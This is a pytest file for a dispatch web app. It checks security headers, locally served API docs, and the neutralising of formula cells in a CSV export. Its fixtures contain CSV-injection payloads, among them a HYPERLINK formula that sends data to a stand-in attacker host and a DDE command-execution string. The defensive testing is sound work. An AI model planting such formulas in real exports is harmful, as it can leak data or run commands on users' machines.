"""Issue 12: security headers on every answer, ``/docs`` off by default and local when on, and a
CSV export whose cells a spreadsheet never runs as formulas."""

from __future__ import annotations

import csv
import io
import re
import secrets
from datetime import UTC, datetime, timedelta

import httpx
import pytest
from pydantic import SecretStr

from dispatch.api.app import create_app
from dispatch.config import Settings
from tests.support import a_point_on_a_road, login

EXPECTED_HEADERS = {
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
    "x-frame-options": "DENY",
}


def _assert_security_headers(r: httpx.Response) -> None:
    for name, value in EXPECTED_HEADERS.items():
        assert r.headers.get(name) == value, (r.request.url, name, r.headers)
    csp = {
        d.split()[0]: d.split()[1:]
        for d in r.headers["content-security-policy"].split(";")
        if d.strip()
    }
    assert csp["default-src"] == ["'self'"]
    assert csp["script-src"] == ["'self'"], "no inline or remote script"
    assert csp["frame-ancestors"] == ["'none'"]
    assert "'unsafe-inline'" not in r.headers["content-security-policy"]
    assert "'unsafe-eval'" not in r.headers["content-security-policy"]


async def test_every_kind_of_answer_carries_the_security_headers(http: httpx.AsyncClient) -> None:
    supervisor = await login(http, "supervisor")
    answers = [
        await http.get("/"),  # the console page
        await http.get("/crew/"),
        await http.get("/api/v1/map"),  # public JSON
        await http.get("/api/v1/units", headers=supervisor),  # JSON with a login
        await http.get("/api/v1/units"),  # 401 problem
        await http.get("/api/v1/incidents/987654321", headers=supervisor),  # 404 problem
        await http.post("/api/v1/incidents", headers=supervisor, json={}),  # 422 problem
        await http.get("/api/v1/review/incidents.csv", headers=supervisor),  # CSV
        await http.get("/openapi.json"),
        await http.get("/healthz"),
        await http.get("/metrics"),
    ]
    for r in answers:
        _assert_security_headers(r)


async def test_the_console_page_has_no_inline_script_or_remote_asset(
    http: httpx.AsyncClient,
) -> None:
    for page in ("/", "/crew/", "/review/"):
        html = (await http.get(page)).text
        for tag in re.findall(r"<script\b[^>]*>", html):
            assert "src=" in tag, f"inline script on {page}: {tag}"
        assert not re.search(r"""(src|href)=["']https?://""", html), f"remote asset on {page}"


async def test_docs_are_off_by_default_and_openapi_stays(http: httpx.AsyncClient) -> None:
    for path in ("/docs", "/redoc", "/docs/assets/swagger-ui-bundle.js"):
        assert (await http.get(path)).status_code == 404, path
    r = await http.get("/openapi.json")
    assert r.status_code == 200 and r.json()["openapi"].startswith("3.")


async def test_docs_when_turned_on_come_from_local_files() -> None:
    """The real app with GOLDENHOUR_API_DOCS on (the pages need no database: no lifespan here)."""
    settings = Settings(secret_key=SecretStr(secrets.token_hex(32)), api_docs=True)
    app = create_app(settings)
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=app), base_url="http://test"
    ) as client:
        page = await client.get("/docs")
        assert page.status_code == 200 and "text/html" in page.headers["content-type"]
        _assert_security_headers(page)
        assert "cdn" not in page.text.lower() and "http" not in page.text.lower()
        scripts = re.findall(r"<script\b[^>]*>", page.text)
        assert scripts and all("src=" in s for s in scripts), "no inline script: CSP allows none"
        for src in re.findall(r"""(?:src|href)="([^"]+)\"""", page.text):
            asset = await client.get(src)
            assert asset.status_code == 200 and len(asset.content) > 10, src
        start = await client.get("/docs/start.js")
        assert "/openapi.json" in start.text
        assert "SwaggerUIBundle" in (await client.get("/docs/assets/swagger-ui-bundle.js")).text


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1 555 0100 chest pain",
    "-2+3 fall",
    "@SUM(1+1) dizzy",
    "\t=1+1 tab first",
]


async def test_csv_export_neutralises_formula_cells(
    http: httpx.AsyncClient, reset_fleet: None
) -> None:
    started = datetime.now(UTC) - timedelta(seconds=1)
    dispatcher, supervisor = await login(http, "dispatcher"), await login(http, "supervisor")
    for i, complaint in enumerate(FORMULAS):
        r = await http.post(
            "/api/v1/incidents",
            headers=dispatcher,
            json={
                "location": await a_point_on_a_road(http, 30 + i),
                "complaint": complaint,
                "address": "=cmd|' /C calc'!A0" if i == 0 else None,
                "priority": 4,
            },
        )
        assert r.status_code == 201, r.text
    r = await http.get(
        "/api/v1/review/incidents.csv", headers=supervisor, params={"from": started.isoformat()}
    )
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text)))
    complaints = {row["complaint"] for row in rows}
    for complaint in FORMULAS:
        stored = complaint.strip()  # the server trims what the call-taker typed
        assert "'" + stored in complaints, (stored, complaints)
        assert stored not in complaints, f"formula cell exported as is: {stored!r}"
    assert "'=cmd|' /C calc'!A0" in {row["address"] for row in rows}
    for row in rows:  # every text cell of every row is safe, whatever a test stored before
        for name in ("complaint", "address", "cancel_reason"):
            cell = row[name]
            assert not cell or cell[0] not in "=+-@\t\r", (name, cell)
    numbers = [float(row["lon"]) for row in rows]
    assert all(isinstance(n, float) for n in numbers), "numbers stay numbers (a minus sign is kept)"


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
def test_neutralise_quotes_formula_starts(cell: str) -> None:
    from dispatch.api.spreadsheet import neutralise

    assert neutralise(cell) == "'" + cell
    assert neutralise("chest pain") == "chest pain"
    assert neutralise(-24.5) == -24.5
